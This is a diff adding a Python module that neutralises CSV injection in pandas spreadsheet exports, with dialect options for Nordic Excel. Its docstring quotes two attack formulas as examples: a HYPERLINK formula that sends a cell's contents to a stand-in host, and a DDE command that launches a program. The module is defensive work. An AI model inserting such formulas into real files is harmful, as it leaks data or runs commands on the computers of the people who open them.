@@ -1,0 +1,242 @@
+"""Spreadsheet exports that a spreadsheet cannot mistake for formulas (CSV injection)."""
+
+from __future__ import annotations
+
+import io
+import os
+import re
+from typing import Any
+
+import pandas as pd
+
+from .errors import SpecError
+
+__all__ = ["CSV_DIALECTS", "FORMULA_TRIGGERS", "neutralise", "safe_csv", "safe_frame"]
+
+#: First characters that make Excel, LibreOffice or Google Sheets read a cell as a formula
+#: (OWASP "CSV Injection"; OWASP ASVS 5.0 requirement 1.2.10 adds the NUL character).
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\0")
+
+#: How :func:`safe_csv` writes a file: separator, decimal mark, byte-order mark, line end.
+CSV_DIALECTS = {
+    # RFC 4180-like, what pandas, R and Python read back without options.
+    "plain": {"sep": ",", "decimal": ".", "bom": False, "lineterminator": "\n"},
+    # Excel in a Norwegian, Swedish, Danish or Finnish locale: ';' between fields, decimal
+    # comma, and a UTF-8 byte-order mark so that æøå and åäö are not shown as Ã¦Ã¸Ã¥.
+    "excel-nordic": {"sep": ";", "decimal": ",", "bom": True, "lineterminator": "\r\n"},
+}
+
+# A cell that is only a number ("-12", "+3.5", "-1,5", "2e-3") cannot call a function or
+# reach a link: a spreadsheet reads it as that number, so it is left as it is.
+_PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:[.,][0-9]*)?|[.,][0-9]+)(?:[eE][+-]?[0-9]+)?")
+
+
+def neutralise(value: Any) -> Any:
+    """``value`` with a leading apostrophe when a spreadsheet would read it as a formula.
+
+    A text cell that begins with ``=``, ``+``, ``-``, ``@``, a tab, a carriage return or a
+    NUL character is run as a formula when the file is opened in Excel, LibreOffice Calc
+    or Google Sheets (``=HYPERLINK("http://evil.example/?"&A1, "Click")`` sends the
+    neighbouring cell away; ``=cmd|' /C calc'!A0`` starts a program on old Excel). The
+    OWASP advice is to prefix such a cell with a single quote ``'``, which every
+    spreadsheet shows as text. That is what this function does.
+
+    Only ``str`` values are touched: numbers, dates, ``None`` and ``NaN`` come back as
+    they are, so a real negative number stays a number. A text that is nothing but a
+    plain number (``"-12"``, ``"+3.5"``, ``"-1,5"``) is also left alone: it cannot
+    call a function, and a planner's "-1200" should not turn into "'-1200". The
+    apostrophe is visible when a CSV file is opened in Excel (it hides it only in cells
+    typed by hand): that is the price of safety, and it shows the reader the cell was
+    text.
+
+    The function is idempotent: a neutralised value starts with ``'`` and is not
+    changed again.
+
+    Parameters
+    ----------
+    value : Any
+        A cell value.
+
+    Returns
+    -------
+    Any
+        ``"'" + value`` for a risky text, otherwise ``value`` unchanged.
+
+    References
+    ----------
+    OWASP, "CSV Injection", https://owasp.org/www-community/attacks/CSV_Injection ;
+    OWASP ASVS 5.0, requirement 1.2.10; CWE-1236.
+
+    Examples
+    --------
+    >>> print(neutralise('=HYPERLINK("http://x","y")'))
+    '=HYPERLINK("http://x","y")
+    >>> neutralise("@SUM(A1:A9)"), neutralise("-2+3"), neutralise("+47 22 33 44 55")
+    ("'@SUM(A1:A9)", "'-2+3", "'+47 22 33 44 55")
+    >>> neutralise("Værnesregionen"), neutralise(-3), neutralise("-3"), neutralise(None)
+    ('Værnesregionen', -3, '-3', None)
+    """
+    if (
+        isinstance(value, str)
+        and value.startswith(FORMULA_TRIGGERS)
+        and not _PLAIN_NUMBER.fullmatch(value)
+    ):
+        return "'" + value
+    return value
+
+
+def _label(label: Any) -> Any:
+    """A column or index label made safe (tuples of a MultiIndex element by element)."""
+    if isinstance(label, tuple):
+        return tuple(neutralise(part) for part in label)
+    return neutralise(label)
+
+
+def _is_text(series: pd.Series) -> bool:
+    dtype = series.dtype
+    return (
+        pd.api.types.is_object_dtype(dtype)
+        or pd.api.types.is_string_dtype(dtype)
+        or isinstance(dtype, pd.CategoricalDtype)
+    )
+
+
+def _safe_series(series: pd.Series) -> pd.Series:
+    if not _is_text(series):
+        return series  # numbers, booleans, dates: a spreadsheet reads them as values
+    if isinstance(series.dtype, pd.CategoricalDtype):
+        return series.astype(object).map(neutralise)
+    out = series.astype(object).map(neutralise)
+    if pd.api.types.is_string_dtype(series.dtype) and not pd.api.types.is_object_dtype(
+        series.dtype
+    ):
+        out = out.astype(series.dtype)  # keep pandas' str dtype
+    return out
+
+
+def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
+    """A copy of ``frame`` whose text cells, column names and index labels are neutralised.
+
+    Every text cell goes through :func:`neutralise`; numeric, boolean and date columns
+    are returned untouched (same dtype, same values). Column names are neutralised too,
+    because extra columns of a user's CSV file carry names chosen by whoever wrote it.
+    The input is not modified.
+
+    Parameters
+    ----------
+    frame : pandas.DataFrame
+        Any table.
+
+    Returns
+    -------
+    pandas.DataFrame
+        A new frame, same shape and order.
+
+    Examples
+    --------
+    >>> import pandas as pd
+    >>> df = pd.DataFrame({"name": ["Stjørdal", "=1+1"], "share": [-0.5, 0.25]})
+    >>> out = safe_frame(df)
+    >>> out["name"].tolist(), out["share"].tolist()
+    (['Stjørdal', "'=1+1"], [-0.5, 0.25])
+    >>> df["name"].tolist()
+    ['Stjørdal', '=1+1']
+    """
+    if not isinstance(frame, pd.DataFrame):
+        raise TypeError(f"safe_frame() needs a pandas DataFrame, not {type(frame).__name__}")
+    columns = [_label(c) for c in frame.columns]
+    data = {i: _safe_series(frame.iloc[:, i]) for i in range(frame.shape[1])}
+    out = pd.DataFrame(data, index=frame.index)
+    if isinstance(frame.columns, pd.MultiIndex):
+        out.columns = pd.MultiIndex.from_tuples(columns, names=frame.columns.names)
+    else:
+        out.columns = pd.Index(columns, dtype=object, name=frame.columns.name)
+    if isinstance(frame.index, pd.MultiIndex):
+        out.index = pd.MultiIndex.from_tuples(
+            [_label(v) for v in frame.index], names=frame.index.names
+        )
+    elif _is_text(frame.index.to_series()):
+        out.index = pd.Index(
+            [neutralise(v) for v in frame.index], dtype=object, name=frame.index.name
+        )
+    return out
+
+
+def safe_csv(
+    frame: pd.DataFrame,
+    path_or_buf=None,
+    *,
+    dialect: str = "plain",
+    **to_csv_kwargs: Any,
+) -> str | None:
+    """Write ``frame`` as CSV with every risky text cell neutralised.
+
+    The cells go through :func:`safe_frame` first, so a name such as
+    ``=HYPERLINK("http://x","y")`` is written as ``'=HYPERLINK(...)`` and shown, never run.
+    The text is always UTF-8 and the row index is left out unless ``index=True`` is given.
+
+    Parameters
+    ----------
+    frame : pandas.DataFrame
+        The table to write.
+    path_or_buf : str, os.PathLike, file object or None
+        Where to write. ``None`` returns the text instead. A path is written as UTF-8
+        bytes; a binary file object receives bytes; a text file object receives text.
+    dialect : {"plain", "excel-nordic"}
+        ``"plain"`` (default): comma, decimal point, no byte-order mark, ``\\n`` line ends,
+        what pandas, R and Python read back as they are. ``"excel-nordic"``: semicolon,
+        decimal comma, a UTF-8 byte-order mark and ``\\r\\n`` line ends, which Excel in a
+        Norwegian, Swedish, Danish or Finnish locale opens by double-click with columns
+        split and æøå intact. The returned text then begins with ``"\\ufeff"`` so that
+        encoding it as UTF-8 gives the byte-order mark.
+    **to_csv_kwargs
+        Passed on to :meth:`pandas.DataFrame.to_csv` (``columns``, ``float_format``,
+        ``date_format``, ``na_rep``, ...); they win over the dialect's choices. ``encoding``
+        is refused: the output is UTF-8.
+
+    Returns
+    -------
+    str or None
+        The CSV text when ``path_or_buf`` is ``None``.
+
+    Raises
+    ------
+    SpecError
+        Unknown ``dialect``, or an ``encoding`` argument.
+
+    Examples
+    --------
+    >>> import pandas as pd
+    >>> df = pd.DataFrame({"name": ["Malvik", "=1+1"], "share": [0.5, -0.25]})
+    >>> print(safe_csv(df), end="")
+    name,share
+    Malvik,0.5
+    '=1+1,-0.25
+    >>> safe_csv(df, dialect="excel-nordic")
+    "\\ufeffname;share\\r\\nMalvik;0,5\\r\\n'=1+1;-0,25\\r\\n"
+    """
+    if dialect not in CSV_DIALECTS:
+        raise SpecError(
+            f"unknown CSV dialect {dialect!r}: use one of {', '.join(map(repr, CSV_DIALECTS))}"
+        )
+    if "encoding" in to_csv_kwargs:
+        raise SpecError(
+            "safe_csv() always writes UTF-8; drop the encoding argument "
+            "(use dialect='excel-nordic' for Excel)"
+        )
+    spec = dict(CSV_DIALECTS[dialect])
+    bom = spec.pop("bom")
+    options = {"index": False, **spec, **to_csv_kwargs}
+    text = safe_frame(frame).to_csv(None, **options)
+    if bom:
+        text = "\ufeff" + text
+    if path_or_buf is None:
+        return text
+    if isinstance(path_or_buf, (str, os.PathLike)):
+        with open(path_or_buf, "wb") as fh:
+            fh.write(text.encode("utf-8"))
+    elif isinstance(path_or_buf, io.TextIOBase):
+        path_or_buf.write(text)
+    else:  # a binary file object (BytesIO, open(..., "wb"), an upload/download buffer)
+        path_or_buf.write(text.encode("utf-8"))
+    return None
